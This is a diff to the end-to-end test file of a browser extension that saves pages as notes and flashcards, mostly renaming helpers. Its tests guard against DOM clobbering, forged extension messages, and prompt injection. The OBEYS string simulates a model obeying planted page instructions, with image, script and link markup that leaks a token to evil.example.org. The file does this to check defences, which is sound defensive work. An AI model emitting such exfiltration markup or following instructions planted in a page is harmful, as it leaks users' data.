@@ -12,10 +12,10 @@ const article = (more = "") =>
   `<article><h1>Codons</h1><p id="fact">${FACT}</p><p>${MORE}</p><p>${MORE.repeat(4)}</p>${more}</article>`;
 const ARABIC = "الريبوسوم هو جسيم يقرأ الحمض النووي الريبوزي الرسول كودونا بعد كودون ويصنع البروتين.";
 
-/** Far above what is read as an article. */
+/** Far above the size up to which a page is read as an article. */
 const LARGE_MB = 50;
 
-/** Elements that answer in place of the browser's own, and prototypes that do something else. */
+/** Elements whose names shadow the browser's own properties, and prototypes that are replaced. */
 const CLOBBERED = `<!doctype html><title>Codons that fight back</title>
 ${["title", "body", "documentElement", "querySelector", "querySelectorAll", "createRange", "createTreeWalker", "contentType", "adoptedStyleSheets"].map((name) => `<img name="${name}" alt="">`).join("")}
 <form id="trap"><input name="shadowRoot"><input name="parentElement"><input name="scrollIntoView"><input name="nodeName"><input name="getHTML"><input name="innerHTML">${article()}</form>
@@ -37,7 +37,7 @@ const PLANTED = `<!doctype html><title>Codons</title>${article(
 )}`;
 const OBEYS = `As ordered: ![x](http://evil.example.org/leak?token=1) <img src="http://evil.example.org/html.png"> <script src="http://evil.example.org/run.js"></script> [press](http://evil.example.org/press) [x](javascript:alert(1)) It names an acid [P1: "three nucleotides"].`;
 
-/** What a page, or another extension, might send in the hope that the extension acts on it. */
+/** Messages that a page or another extension might send to make the extension act. */
 const FORGED = [
   "account",
   "captures",
@@ -71,7 +71,7 @@ let extended: PageWithPanel["extended"];
 let lamplight: PageWithPanel["lamplight"];
 let page: Page;
 let panel: Page;
-let at: PageWithPanel["at"];
+let driver: PageWithPanel["driver"];
 
 beforeAll(async () => {
   const pages = {
@@ -101,7 +101,7 @@ for (let n = 0; n < ${LARGE_MB * 10.6}; n += 1) document.body.append(part.cloneN
     browser: { args: site.args, allowed: ["tabs", "*://lectures.example.org/*"] },
     env: { AI_BASE_URL: model.baseUrl, AI_MODEL: "test-model" },
   });
-  ({ extended, lamplight, page, panel, at } = setup);
+  ({ extended, lamplight, page, panel, driver } = setup);
 }, 120_000);
 afterAll(async () => {
   await setup.close();
@@ -109,10 +109,10 @@ afterAll(async () => {
   site.close();
 });
 
-const captures = async () => (await lamplight.client.capture.listCaptures({})).captures;
+const listCaptures = async () => (await lamplight.client.capture.listCaptures({})).captures;
 
-/** Marks the words of an element by the browser's own hand, whatever the page has made of its functions. */
-async function mark(selector: string): Promise<void> {
+/** Selects the text of an element in an isolated world, whatever the page has done to its own functions. */
+async function selectText(selector: string): Promise<void> {
   const session = await page.createCDPSession();
   const { frameTree } = await session.send("Page.getFrameTree");
   const { executionContextId } = await session.send("Page.createIsolatedWorld", { frameId: frameTree.frame.id });
@@ -132,8 +132,8 @@ async function mark(selector: string): Promise<void> {
 }
 
 async function saveCard(): Promise<void> {
-  await mark("#fact");
-  await at.press("Card from selection");
+  await selectText("#fact");
+  await driver.press("Card from selection");
   await panel.locator('::-p-aria([name="Question"])').wait();
   await panel.focus("textarea");
   await panel.keyboard.type(" ");
@@ -152,44 +152,44 @@ test.each(pages)(
   async ({ path, title }) => {
     await page.goto(`${site.origin}/${path}`);
     await page.bringToFront();
-    await at.waitForText(title);
+    await driver.waitForText(title);
     await saveCard();
-    await at.press("Save page as note");
+    await driver.press("Save page as note");
     const address = `${site.origin}/${path}`;
-    const here = async () => (await captures()).filter((each) => each.address === address);
+    const capturesOfPage = async () => (await listCaptures()).filter((capture) => capture.address === address);
     await expect
-      .poll(async () => (await here()).map(({ kind }) => kind).toSorted())
+      .poll(async () => (await capturesOfPage()).map(({ kind }) => kind).toSorted())
       .toEqual(["card", "note"])
       .catch(async (cause: unknown) => {
         throw new Error(await panel.evaluate(() => document.body.innerText), { cause });
       });
-    const [first] = await here();
+    const [first] = await capturesOfPage();
     expect(first?.title).toBe(title);
     const { components } = await lamplight.client.pages.getPage({ id: first?.pageId ?? "" });
     expect(JSON.stringify(components)).toContain(MORE);
     expect(JSON.stringify(components)).not.toContain("from elsewhere");
-    await at.waitForText("Show source");
+    await driver.waitForText("Show source");
     await panel.evaluate(() =>
       document.querySelector<HTMLElement>('.capture-buttons button[aria-label^="Show source: "]')?.click(),
     );
-    await at.waitForText("Highlighted on the page.");
+    await driver.waitForText("Highlighted on the page.");
   },
 );
 
 test("right-to-left text is preserved", async () => {
   await page.goto(`${site.origin}/arabic`);
-  await at.waitForText("الريبوسوم");
-  await mark("#fact");
-  await at.press("Card from selection");
+  await driver.waitForText("الريبوسوم");
+  await selectText("#fact");
+  await driver.press("Card from selection");
   await panel.locator('::-p-aria([name="Question"])').fill("ما هو الريبوسوم؟");
   await panel.focus("textarea");
   await panel.keyboard.press("Enter");
-  await expect.poll(async () => (await captures()).some(({ locator }) => locator?.quote === ARABIC)).toBe(true);
+  await expect.poll(async () => (await listCaptures()).some(({ locator }) => locator?.quote === ARABIC)).toBe(true);
 });
 
 test("instructions in a page have no effect, even with a model that obeys them", async () => {
   await page.goto(`${site.origin}/planted`);
-  await at.waitForText("Codons");
+  await driver.waitForText("Codons");
   const before = {
     pages: (await lamplight.client.pages.getContent({})).content.pages.length,
     asked: site.requests.length,
@@ -202,13 +202,13 @@ test("instructions in a page have no effect, even with a model that obeys them",
     (answer) => [...answer.querySelectorAll("img, script, a, iframe")].length,
   );
   expect(made).toBe(0);
-  const after = site.requests.slice(before.asked).filter((each) => each.startsWith("evil"));
+  const after = site.requests.slice(before.asked).filter((request) => request.startsWith("evil"));
   expect(after).toEqual([]);
   expect((await lamplight.client.pages.getContent({})).content.pages.length).toBe(before.pages + 1);
 });
 
 /** Everything that a message could have changed on this device. */
-const stateOf = () =>
+const readState = () =>
   panel.evaluate(async () => {
     const names = (await indexedDB.databases()).map(({ name }) => name ?? "");
     const replies: string[] = [];
@@ -218,7 +218,7 @@ const stateOf = () =>
         opening.onsuccess = () => done(opening.result);
       });
       for (const store of [...db.objectStoreNames].filter(
-        (each) => each === "captures" || each === "settings" || each === "requests",
+        (name) => name === "captures" || name === "settings" || name === "requests",
       )) {
         const all = await new Promise<unknown>((done) => {
           const asking = db.transaction(store).objectStore(store).getAll();
@@ -245,7 +245,7 @@ test("messages forged by a page or another extension, thirty kinds each, have no
   await writeFile(join(other, "manifest.json"), JSON.stringify(manifest));
   await writeFile(join(other, "other.js"), "self.ready = true;");
   const otherId = await extended.browser.installExtension(other);
-  const [before, pagesBefore] = [await stateOf(), (await lamplight.client.pages.getContent({})).content];
+  const [before, pagesBefore] = [await readState(), (await lamplight.client.pages.getContent({})).content];
   const id = extended.extension.id;
 
   const byPage = await page.evaluate(
@@ -295,7 +295,9 @@ test("messages forged by a page or another extension, thirty kinds each, have no
         if ((await chrome.runtime.sendMessage(to, message).catch(() => undefined)) !== undefined) answered += 1;
         try {
           const port = chrome.runtime.connect(to, { name: "page-text" });
-          port.onMessage.addListener(() => (answered += 1));
+          port.onMessage.addListener(() => {
+            answered += 1;
+          });
           port.postMessage(message);
         } catch {
           // Nobody listens.
@@ -309,7 +311,7 @@ test("messages forged by a page or another extension, thirty kinds each, have no
     id,
   );
   expect(byExtension).toBe(0);
-  expect(await stateOf()).toBe(before);
+  expect(await readState()).toBe(before);
   expect((await lamplight.client.pages.getContent({})).content.pages.length).toBe(pagesBefore.pages.length);
 });
 
@@ -342,23 +344,23 @@ test("the token is not reachable from any JavaScript world of a page", async () 
   await session.detach();
 });
 
-const large = async () => (await captures()).find(({ address }) => address.endsWith("/large"));
+const findLargeCapture = async () => (await listCaptures()).find(({ address }) => address.endsWith("/large"));
 
 test("a page of fifty megabytes is saved up to the size limit, and the panel keeps working", async () => {
   await page.goto(`${site.origin}/large`);
   expect(await page.evaluate(() => document.documentElement.innerHTML.length)).toBeGreaterThan(LARGE_MB * 900_000);
   const startedAt = performance.now();
   const seconds = () => ((performance.now() - startedAt) / 1000).toFixed(1);
-  await at.press("Save page as note");
-  await at.waitForText("Very many codons\n\nNote · ");
+  await driver.press("Save page as note");
+  await driver.waitForText("Very many codons\n\nNote · ");
   const savedSeconds = seconds();
-  await expect.poll(async () => (await large())?.kind, { timeout: 60_000 }).toBe("note");
+  await expect.poll(async () => (await findLargeCapture())?.kind, { timeout: 60_000 }).toBe("note");
   process.stdout.write(`  ${LARGE_MB} MB of page: kept after ${savedSeconds} s, arrived after ${seconds()} s\n`);
-  const { components } = await lamplight.client.pages.getPage({ id: (await large())?.pageId ?? "" });
+  const { components } = await lamplight.client.pages.getPage({ id: (await findLargeCapture())?.pageId ?? "" });
   expect(JSON.stringify(components)).toContain(FACT);
   await saveCard();
   await expect
-    .poll(async () => (await captures()).filter(({ address }) => address.endsWith("/large")).length, {
+    .poll(async () => (await listCaptures()).filter(({ address }) => address.endsWith("/large")).length, {
       timeout: 20_000,
     })
     .toBe(2);
